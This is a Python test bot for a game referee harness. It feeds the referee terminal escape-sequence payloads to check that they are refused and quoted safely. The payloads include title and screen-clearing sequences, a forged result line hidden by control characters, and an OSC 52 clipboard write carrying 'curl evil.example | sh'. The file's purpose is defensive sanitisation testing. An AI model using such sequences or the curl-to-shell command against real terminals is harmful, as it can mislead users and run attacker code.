"""Sends lines that would act on the terminal of whoever reads the referee's output.

Each payload is one refused line, sent as the first answer to a decision (one per decision, so
none becomes a fault): OSC 0 (the window title), ``ESC[2J`` (clear the screen), OSC 52 (write
the clipboard), a forged line of the referee's after a carriage return, vertical tab, NEL and
U+2028, hidden by ``ESC[8m``, and a JSON answer whose unknown field's name holds ESC, a C1
CSI and a bidi override (refused as ``bad_message``, the name quoted in the detail). Then it
answers the fresh ``act`` with a random legal action. ``--forfeit`` sends the JSON answer to
the first decision until the referee gives up on it: the forfeit's detail quotes it.
"""

import base64
import json

import botlib

arguments = botlib.parser(__doc__)
arguments.add_argument("--forfeit", action="store_true")
args = botlib.setup(arguments)

FORGED = b"Match over: B+D wins (marks: B+D reached 7 marks); 7 hands"
CLIPBOARD = base64.b64encode(b"curl evil.example | sh")
PAYLOADS = [
    b"\x1b]0;referee: you have been pwned\x07",
    b"\x1b[2J\x1b[H",
    b"\x1b]52;c;" + CLIPBOARD + b"\x07",
    b"\r\x0b\x0c\xc2\x85\xe2\x80\xa8" + FORGED + b"\x1b[8m",
]
# In a JSON string a C0 control must be written \u001b; C1 and bidi characters go raw.
KEY = rb"\u001b]0;title\u0007\u001b[2J" + b"\xc2\x9b2J\xe2\x80\xae"


def hostile_answer(act_id: int) -> bytes:
    action = json.dumps({"type": "pass"}).encode()
    return b'{"type": "action", "id": %d, "action": %s, "%s": 1}\n' % (act_id, action, KEY)


rng = None
previous = ""
sent = 0
for message in botlib.messages():
    kind = message["type"]
    if kind == "hello":
        rng = botlib.ready(message, "escape")
    elif kind == "act" and rng is not None:
        if args.forfeit:
            botlib.send_bytes(hostile_answer(message["id"]))
        elif previous != "rejected" and sent <= len(PAYLOADS):
            last = sent == len(PAYLOADS)
            botlib.send_bytes(hostile_answer(message["id"]) if last else PAYLOADS[sent] + b"\n")
            sent += 1
        else:
            botlib.answer(message, rng)
    previous = kind
